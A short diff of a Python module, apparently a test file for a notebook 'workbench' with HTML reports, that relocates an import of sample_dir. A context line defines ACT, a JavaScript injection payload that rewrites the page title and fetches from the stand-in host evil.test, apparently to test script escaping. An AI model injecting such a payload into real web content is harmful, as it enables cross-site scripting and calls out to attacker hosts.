@@ -16,8 +16,8 @@ from workbench.notebook import Session
 from workbench.notebook.display import Result
 from workbench.notebook.results import Overfitted
 from workbench.overfit.events import Event
+from workbench.paths import sample_dir
 from workbench.recipe.yaml.document import Document
-from workbench.resources import sample_dir
 from workbench.views.html_reports import progress_html
 
 ACT = "document.title='owned';fetch('http://evil.test/fetched')"
